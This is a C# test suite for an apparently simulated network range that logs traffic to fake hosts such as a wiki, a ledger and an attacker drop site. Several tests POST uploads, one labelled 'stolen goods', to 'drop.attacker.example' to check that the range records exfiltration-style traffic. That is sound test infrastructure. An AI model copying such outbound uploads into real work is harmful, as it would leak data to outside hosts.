using System.Net;
using System.Net.ServerSentEvents;
using System.Net.WebSockets;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;

namespace Sallyport.Range.Tests;

public sealed class InstrumentTests(RangeUnderTest range) : IClassFixture<RangeUnderTest>
{
    [Theory]
    [InlineData("https://www.moltbook.com/api/v1/stream", "1.1")]
    [InlineData("https://www.moltbook.com/_range/stream", "2.0")]
    [InlineData("https://wiki.corp.example/_range/stream", "2.0")]
    public async Task The_stream_sends_events_one_by_one(string url, string version)
    {
        using var client = range.NewClient(version: Version.Parse(version));
        await using var body = await client.GetStreamAsync(url + "?events=3", Runner.Cancellation);

        var numbers = new List<int>();
        await foreach (var one in SseParser.Create(body).EnumerateAsync(Runner.Cancellation))
        {
            Assert.Equal("post", one.EventType);
            numbers.Add(JsonElement.Parse(one.Data).Number("number"));
        }

        Assert.Equal([0, 1, 2], numbers);
    }

    [Fact]
    public async Task The_stream_goes_on_until_the_client_leaves_and_is_open_in_the_log_meanwhile()
    {
        const string Filter = "host=ledger.corp.example&path=/_range/stream";
        using var client = range.NewClient();
        await using (
            var body = await client.GetStreamAsync("https://ledger.corp.example/_range/stream", Runner.Cancellation))
        {
            await body.ReadExactlyAsync(new byte[10], Runner.Cancellation);
            Assert.Equal(1, (await range.ReceivedAsync(Filter)).Number("matching_open"));
        }

        client.Dispose();
        await UntilAsync(async () => (await range.ReceivedAsync(Filter)).Number("matching_open") == 0);
    }

    [Theory]
    [InlineData("1.1")]
    [InlineData("2.0")]
    public async Task The_echo_returns_what_was_sent(string version)
    {
        using var handler = range.NewHandler();
        using var invoker = new HttpMessageInvoker(handler);
        using var socket = new ClientWebSocket();
        socket.Options.HttpVersion = Version.Parse(version);
        socket.Options.HttpVersionPolicy = HttpVersionPolicy.RequestVersionExact;
        await socket.ConnectAsync(new Uri("wss://wiki.corp.example/_range/echo"), invoker, Runner.Cancellation);
        var sent = Encoding.UTF8.GetBytes(new string('e', 200_000));
        await socket.SendAsync(sent, WebSocketMessageType.Text, true, Runner.Cancellation);

        var back = new MemoryStream();
        var buffer = new byte[16 * 1024];
        ValueWebSocketReceiveResult frame;
        do
        {
            frame = await socket.ReceiveAsync(buffer.AsMemory(), Runner.Cancellation);
            await back.WriteAsync(buffer.AsMemory(0, frame.Count), Runner.Cancellation);
        }
        while (!frame.EndOfMessage);

        await socket.CloseAsync(WebSocketCloseStatus.NormalClosure, null, Runner.Cancellation);
        Assert.Equal(sent, back.ToArray());
        await UntilAsync(
            async () =>
                (await range.ReceivedAsync("path=/_range/echo")).GetProperty("matching_bytes")
                    .GetInt64() >= sent.Length);
    }

    [Fact]
    public async Task The_echo_refuses_what_is_no_websocket() =>
        await range.GetAsync("https://www.moltbook.com/_range/echo", HttpStatusCode.BadRequest);

    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(40_000_000)]
    public async Task The_sink_counts_and_hashes_what_it_received(int length)
    {
        var bytes = new byte[length];
        new Random(7).NextBytes(bytes);
        using var client = range.NewClient();
        using var content = new ByteArrayContent(bytes);
        using var response = await client.PostAsync(
            "https://drop.attacker.example/_range/sink", content, Runner.Cancellation);

        var answer = JsonElement.Parse(await response.Content.ReadAsStringAsync(Runner.Cancellation));

        Assert.Equal(length, answer.Number("bytes"));
        Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(bytes)), answer.Text("sha256"));
    }

    [Fact]
    public async Task An_unfinished_upload_is_counted_while_it_goes_on_and_marked_when_it_is_cut()
    {
        const string Filter = "host=www.moltbook.com&path=/_range/sink";
        using var client = range.NewClient();
        using var cut = new CancellationTokenSource();
        using var content = new HeldContent(5000);
        var sending = client.PostAsync("https://www.moltbook.com/_range/sink", content, cut.Token);
        await UntilAsync(
            async () =>
                (await range.ReceivedAsync(Filter)) is var now && now.Number("matching_open") == 1
                    && now.Number("matching_bytes") == 5000);

        await cut.CancelAsync();

        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => sending);
        await UntilAsync(
            async () =>
                (await range.ReceivedAsync(Filter)).GetProperty("lines")[0].GetProperty("aborted").GetBoolean());
    }

    [Fact]
    public async Task Every_request_is_one_line_of_the_log()
    {
        using var client = range.NewClient();
        using var content = new StringContent("stolen goods");
        using var response = await client.PostAsync(
            "https://drop.attacker.example/any/path?with=query", content, Runner.Cancellation);

        // The line is written when the request has ended, which is a moment after its answer.
        await UntilAsync(() => Task.FromResult(FindInLog() is not null));
        var line = FindInLog()!.Value;

        Assert.Equal("drop.attacker.example", line.Text("host"));
        Assert.Equal("POST", line.Text("method"));
        Assert.Equal(12, line.Number("bytes"));
        Assert.Equal(200, line.Number("status"));
    }

    [Fact]
    public async Task The_counts_are_asked_for_on_the_loopback_names_only()
    {
        using var client = range.NewClient();
        foreach (var host in (string[])["www.moltbook.com", "wiki.corp.example", "ledger.corp.example"])
        {
            using var response = await client.GetAsync($"https://{host}/_range/received", Runner.Cancellation);
            Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        }
    }

    [Fact]
    public async Task The_wiki_is_pages_and_the_ledger_books_entries()
    {
        using var client = range.NewClient();
        var page = await client.GetStringAsync("https://wiki.corp.example/pages/on-call", Runner.Cancellation);
        var before = await range.GetAsync("https://ledger.corp.example/entries");

        await range.SendAsync(
            HttpMethod.Post,
            "https://ledger.corp.example/entries",
            """{"account":"1000","amount_cents":250,"memo":"test"}""",
            HttpStatusCode.Created);
        await range.SendAsync(
            HttpMethod.Post,
            "https://ledger.corp.example/entries",
            """{"account":"1000","memo":"no amount"}""",
            HttpStatusCode.BadRequest);

        var after = await range.GetAsync("https://ledger.corp.example/entries");
        Assert.Contains("<h1>On call</h1>", page, StringComparison.Ordinal);
        Assert.Equal(before.Number("count") + 1, after.Number("count"));
        Assert.Equal(250, after.GetProperty("entries")[after.Number("count") - 1].Number("amount_cents"));
    }

    private JsonElement? FindInLog()
    {
        var found = LogLines().Where(static one => one.Text("path") == "/any/path?with=query").ToArray();
        Assert.True(found.Length <= 1, "One request is one line.");
        return found.Length == 0 ? null : found[0];
    }

    private JsonElement[] LogLines()
    {
        // The range holds the file open.
        using var file = new FileStream(
            Path.Combine(range.StateFolder, "received.jsonl"), FileMode.Open, FileAccess.Read, FileShare.ReadWrite);
        using var reader = new StreamReader(file);
        // The last part is empty, or a line that is still being written.
        var lines = reader.ReadToEnd().Split('\n')[..^1];
        return [.. lines.Select(static line => JsonElement.Parse(line))];
    }

    /// <summary>Asks again until it is so; the runner's own time limit is the only clock.</summary>
    private static async Task UntilAsync(Func<Task<bool>> condition)
    {
        while (!await condition())
        {
            await Task.Delay(TimeSpan.FromMilliseconds(10), TimeProvider.System, Runner.Cancellation);
        }
    }

    private sealed class HeldContent(int bytes) : HttpContent
    {
        protected override Task SerializeToStreamAsync(Stream stream, TransportContext? context) =>
            SerializeToStreamAsync(stream, context, CancellationToken.None);

        protected override async Task SerializeToStreamAsync(
            Stream stream, TransportContext? context, CancellationToken cancellationToken)
        {
            await stream.WriteAsync(new byte[bytes], cancellationToken);
            await stream.FlushAsync(cancellationToken);
            await Task.Delay(Timeout.InfiniteTimeSpan, TimeProvider.System, cancellationToken);
        }

        protected override bool TryComputeLength(out long length)
        {
            length = 0;
            return false;
        }
    }
}
